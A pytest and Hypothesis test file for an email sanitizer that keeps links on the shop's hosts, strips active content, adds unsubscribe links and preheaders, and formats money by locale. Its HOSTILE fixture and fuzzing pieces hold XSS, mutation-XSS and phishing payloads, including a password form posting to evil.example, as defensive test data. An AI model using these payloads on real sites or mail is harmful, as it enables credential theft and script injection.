"""What every shop-written email gets before it is sent: links and images on the shop's hosts only, no active content,
a visible unsubscribe link, the preheader, CSS inlined with its media queries kept, a text part; and money as each
locale writes it."""

from __future__ import annotations

from decimal import Decimal

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from server.email_templates.finishing import MAX_BYTES, FinishedEmail, FinishingError, finish
from server.email_templates.money import format_money

SHOP = "shop.example"
HOSTS = frozenset({SHOP, "cdn.shop.example"})
UNSUBSCRIBE = "https://sibyl.example/u/abc123"
EVIL = "evil.example"


def finished(html: str, preheader: str = "", text: str = "") -> FinishedEmail:
    return finish(html, hosts=HOSTS, unsubscribe_url=UNSUBSCRIBE, preheader=preheader, text=text)


def tree(html: str) -> lxml.html.HtmlElement:
    return lxml.html.document_fromstring(html)


def urls(html: str) -> list[str]:
    """Every URL the finished HTML names, in attributes and in CSS."""
    document = tree(html)
    found = [value for element in document.iter() for value in element.attrib.values() if "//" in value]
    return found + [style.text or "" for style in document.iter("style")]


HOSTILE = f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://{EVIL}/login">
<link rel="stylesheet" href="https://{EVIL}/x.css">
<script>document.location = "https://{EVIL}/"</script>
<style>
@import url(https://{EVIL}/more.css);
.hero {{ background: url(https://{EVIL}/hero.png); color: #111 }}
.logo {{ background: u\\72l(https://{EVIL}/escaped.png) }}
.ok {{ background-image: url("https://{SHOP}/ok.png") }}
</style>
</head>
<body onload="steal()">
<div class="ok">Shop's own background</div>
<p class="hero">Hello <a href="https://{SHOP}/cart" onclick="steal()">your cart</a>.</p>
<a href="https://{EVIL}/login">Sign in again</a>
<a href="javascript:alert(1)">Run</a> <a href="java&#9;script:alert(2)">Run too</a>
<a href="https://{EVIL}\\@{SHOP}/">Tricky</a> <a href="//{EVIL}/">Schemeless</a> <a href="data:text/html,x">Data</a>
<a href="mailto:help@{SHOP}">Write to us</a> <a href="tel:+33100000000">Call us</a>
<img src="https://{EVIL}/pixel.gif" alt="tracking">
<img src="https://{SHOP}/shoe.png" srcset="https://{SHOP}/shoe-2x.png 2x, https://{EVIL}/shoe-3x.png 3x" alt="Shoe">
<picture><source srcset="https://{EVIL}/shoe.webp"><img src="https://cdn.{SHOP}/shoe.jpg" alt="Shoe"></picture>
<table background="https://{EVIL}/bg.png"><tr><td style="background:url(https://{EVIL}/cell.png);color:red">1</td></tr></table>
<div style="width:expression(alert(3))">old IE</div>
<form action="https://{EVIL}/collect"><input name="password"><button>Log in</button></form>
<iframe src="https://{EVIL}/"></iframe><object data="https://{EVIL}/x.swf"></object><embed src="https://{EVIL}/x">
<svg><a href="https://{EVIL}/"><text>svg link</text></a></svg>
<!--[if mso]><a href="https://{EVIL}/outlook">Outlook only</a><![endif]-->
<style>a[title="\\3c /style\\3e <script>alert(4)</script>"] {{ color: red }}</style>
</body></html>"""


def test_nothing_in_a_hostile_email_points_elsewhere_or_runs() -> None:
    html = finished(HOSTILE).html
    lowered = html.lower()
    assert EVIL not in html
    for active in ("<script", "javascript:", "<iframe", "<object", "<embed", "<form", "<input", "<svg", "expression("):
        assert active not in lowered
    assert not [name for element in tree(html).iter() for name in element.attrib if name.startswith("on")]
    assert "Outlook only" not in html  # conditional comments are gone with their links


def test_links_elsewhere_lose_their_target_but_keep_their_text() -> None:
    document = tree(finished(HOSTILE).html)
    links = {(link.text_content().strip(), link.get("href")) for link in document.iter("a")}
    assert ("your cart", f"https://{SHOP}/cart") in links
    assert ("Write to us", f"mailto:help@{SHOP}") in links
    assert ("Call us", "tel:+33100000000") in links
    for text in ("Sign in again", "Run", "Run too", "Tricky", "Schemeless", "Data"):
        assert (text, None) in links


def test_images_and_css_stay_only_on_the_shops_hosts() -> None:
    html = finished(HOSTILE).html
    document = tree(html)
    assert [image.get("alt") for image in document.iter("img")] == ["Shoe", "Shoe"]
    assert [image.get("srcset") for image in document.iter("img")] == [None, None]  # one candidate was elsewhere
    assert [image.get("src") for image in document.iter("img")] == [
        f"https://{SHOP}/shoe.png",
        f"https://cdn.{SHOP}/shoe.jpg",
    ]
    assert not list(document.iter("source"))
    assert f"https://{SHOP}/ok.png" in html
    assert all(EVIL not in url for url in urls(html))
    cell = next(document.iter("td"))
    assert (cell.get("style") or "").replace(
        " ", ""
    ) == "color:red"  # the declaration pointing elsewhere went, its neighbour stayed


def test_an_image_set_only_on_the_shops_hosts_is_kept() -> None:
    html = finished(
        f'<img src="https://{SHOP}/a.png" srcset="https://{SHOP}/a-2x.png 2x, https://cdn.{SHOP}/a-3x.png 3x">'
    ).html
    assert next(tree(html).iter("img")).get("srcset") == f"https://{SHOP}/a-2x.png 2x, https://cdn.{SHOP}/a-3x.png 3x"


def test_the_unsubscribe_footer_is_added_when_the_email_has_no_unsubscribe_link() -> None:
    document = tree(finished("<html><body><p>Your cart is waiting.</p></body></html>").html)
    body = document.find("body")
    assert body is not None
    last = body[-1]
    assert [(link.text, link.get("href")) for link in last.iter("a")] == [("Unsubscribe", UNSUBSCRIBE)]


def test_an_email_with_its_own_unsubscribe_link_gets_no_footer() -> None:
    html = finished(f'<p>Bye? <a href="{UNSUBSCRIBE}">Stop these emails</a></p>').html
    assert [link.get("href") for link in tree(html).iter("a")] == [UNSUBSCRIBE]
    assert "Stop these emails" in html


@pytest.mark.parametrize(
    "hidden",
    [
        f'<a href="{UNSUBSCRIBE}" style="display:none">Unsubscribe</a>',
        f'<div style="visibility: hidden"><a href="{UNSUBSCRIBE}">Unsubscribe</a></div>',
        f'<div hidden><a href="{UNSUBSCRIBE}">Unsubscribe</a></div>',
        f'<span style="font-size:0"><a href="{UNSUBSCRIBE}">Unsubscribe</a></span>',
        f'<a href="{UNSUBSCRIBE}"></a>',
        '<style>.gone { display: none }</style><a class="gone" href="' + UNSUBSCRIBE + '">Unsubscribe</a>',
    ],
)
def test_a_hidden_or_empty_unsubscribe_link_does_not_count(hidden: str) -> None:
    links = [link for link in tree(finished(hidden).html).iter("a") if link.get("href") == UNSUBSCRIBE]
    assert len(links) == 2
    assert links[-1].text == "Unsubscribe"


def test_the_preheader_is_the_first_thing_in_the_body_and_hidden() -> None:
    html = finished("<html><body>Hello <b>Ada</b></body></html>", preheader="  Your   cart\nmisses you ").html
    body = tree(html).find("body")
    assert body is not None
    assert not (body.text or "").strip()
    preheader = body[0]
    assert (preheader.text or "").startswith("Your cart misses you")
    assert "display:none" in (preheader.get("style") or "")
    assert preheader.tail == "Hello "


def test_no_preheader_element_without_a_preheader() -> None:
    assert "display:none" not in finished("<p>Hello</p>").html


def test_css_is_inlined_and_media_queries_are_kept_in_a_style_block() -> None:
    html = finished(
        """<html><head><style>
        p.total { font-weight: bold; color: #222 }
        @media (max-width: 600px) { p.total { font-size: 18px !important } }
        </style></head><body><p class="total">Total: $90.00</p></body></html>"""
    ).html
    document = tree(html)
    total = next(document.iter("p"))
    assert "font-weight: bold" in (total.get("style") or "")
    assert "color: #222" in (total.get("style") or "")
    styles = [style.text or "" for style in document.iter("style")]
    assert len(styles) == 1
    assert "@media (max-width: 600px)" in styles[0]
    assert "font-size: 18px !important" in styles[0]
    assert "font-weight" not in styles[0]


def test_a_whole_document_stays_whole_and_declares_utf8() -> None:
    html = finished(
        '<!DOCTYPE html><html><head><meta charset="iso-8859-1"><title>Cart</title></head>'
        "<body>Prix : 90 €</body></html>"
    ).html
    assert html.startswith("<!DOCTYPE html>")
    head = tree(html).find("head")
    assert head is not None
    assert [meta.get("charset") for meta in head.iter("meta")] == ["utf-8"]
    assert head.findtext("title") == "Cart"
    assert "Prix : 90 €" in html


def test_a_fragment_stays_a_fragment_with_its_media_queries_first() -> None:
    html = finished(
        "<style>@media (max-width: 600px) { td { display: block } } td { padding: 4px }</style>"
        "Hello <table><tr><td>Shoe</td></tr></table>",
        preheader="Back soon?",
    ).html
    assert "<html" not in html and "<body" not in html and "<head" not in html
    assert html.startswith("<style>@media (max-width: 600px)")
    assert '<td style="padding: 4px">Shoe</td>' in html
    assert html.index("Back soon?") < html.index("Hello")
    assert html.endswith("Unsubscribe</a></div>")


def test_the_text_part_is_generated_with_each_links_url_and_the_unsubscribe_url() -> None:
    text = finished(
        f"""<html><head><title>Not shown</title></head><body>
        <h1>Your cart</h1><p>You left <a href="https://{SHOP}/cart">your cart</a> behind.</p>
        <table><tr><td>Shoe</td><td>$90.00</td></tr></table></body></html>""",
        preheader="Hidden preview",
    ).text
    assert "Your cart" in text
    assert f"your cart](https://{SHOP}/cart)" in text
    assert "Shoe" in text and "$90.00" in text
    assert UNSUBSCRIBE in text
    assert "Not shown" not in text and "Hidden preview" not in text
    assert text.endswith("\n")


def test_a_given_text_part_is_kept_and_gets_the_unsubscribe_url_at_the_end() -> None:
    text = finished("<p>Hello</p>", text="Hello,\nyour cart is waiting.\n").text
    assert text == f"Hello,\nyour cart is waiting.\n\nUnsubscribe: {UNSUBSCRIBE}\n"


def test_a_given_text_part_with_the_unsubscribe_url_is_kept_as_is() -> None:
    given = f"Hello.\nUnsubscribe here: {UNSUBSCRIBE}\n"
    assert finished("<p>Hello</p>", text=given).text == given


def test_an_email_over_the_size_bound_is_refused_with_a_clear_error() -> None:
    with pytest.raises(FinishingError, match="html: 1,000,009 bytes, over the 1,000,000"):
        finished("<p>" + "x" * (MAX_BYTES + 2) + "</p>")
    with pytest.raises(FinishingError, match=r"^text: "):
        finished("<p>Hi</p>", text="x" * (MAX_BYTES + 1))


def test_elements_nested_past_what_can_be_read_are_refused() -> None:
    with pytest.raises(FinishingError, match="nested too deeply"):
        finished("<div>" * 300 + "deep")


@pytest.mark.parametrize("html", ["", "   ", "<!-- a comment -->", "<?xml version='1.0' encoding='utf-8'?><p>Hi</p>"])
def test_empty_or_odd_html_still_gets_its_unsubscribe_link(html: str) -> None:
    email = finished(html)
    assert [link.get("href") for link in tree(email.html).iter("a")] == [UNSUBSCRIBE]
    assert UNSUBSCRIBE in email.text


PIECES = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<table><tr><td>",
        "</td></tr></table>",
        "<a href='https://shop.example/x'>",
        f"<a href='https://{EVIL}/'>",
        "</a>",
        "<script>alert(1)</script>",
        "<style>",
        "</style>",
        f"p{{background:url(https://{EVIL}/a)}}",
        "@media (max-width:1px){p{color:red}}",
        f"<img src='https://{EVIL}/a' onerror='x()'>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "javascript:",
        "\\3c /style\\3e",
        "&lt;script&gt;",
        "<textarea>",
        "<title>",
        "<xmp>",
        "'",
        '"',
        "<",
        ">",
        "text é ✓ ",
    ]
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=30))
def test_any_mix_of_hostile_pieces_is_finished_safely(pieces: list[str]) -> None:
    email = finished("".join(pieces))
    document = tree(email.html)
    assert not list(document.iter("script", "svg", "math", "noscript", "textarea", "xmp"))
    assert not [name for element in document.iter() for name in element.attrib if name.startswith("on")]
    assert all(EVIL not in url for url in urls(email.html))
    assert UNSUBSCRIBE in email.text


@pytest.mark.parametrize(
    ("amount", "currency", "locale", "shown"),
    [
        (90, "USD", "en_US", "$90.00"),
        ("90", "EUR", "fr_FR", "90,00\u00a0€"),
        (Decimal("1234.5"), "EUR", "de_DE", "1.234,50\u00a0€"),
        (1234, "JPY", "ja_JP", "￥1,234"),
        (19.99, "gbp", "en-GB", "£19.99"),
        ("1,448.40", "USD", "en_US", "$1,448.40"),
    ],
)
def test_money_is_written_as_the_locale_writes_it(
    amount: Decimal | float | str, currency: str, locale: str, shown: str
) -> None:
    assert format_money(amount, currency, locale) == shown


@pytest.mark.parametrize(
    ("amount", "currency", "locale", "shown"),
    [
        (90, "XBT", "en_US", "90.00 XBT"),  # a code Babel does not know follows the number
        (90, None, "fr_FR", "90,00"),
        ("about ninety", "EUR", "fr_FR", "about ninety EUR"),
        (Decimal("NaN"), "EUR", "fr_FR", "NaN EUR"),
        ("1e999999", "USD", "en_US", "1e999999 USD"),
        (90, "EUR", "xx_YY", "€90.00"),  # an unknown locale writes English
        (90, "EUR", "", "€90.00"),
    ],
)
def test_money_that_cannot_be_formatted_is_shown_plainly(
    amount: Decimal | float | str, currency: str | None, locale: str, shown: str
) -> None:
    assert format_money(amount, currency, locale) == shown
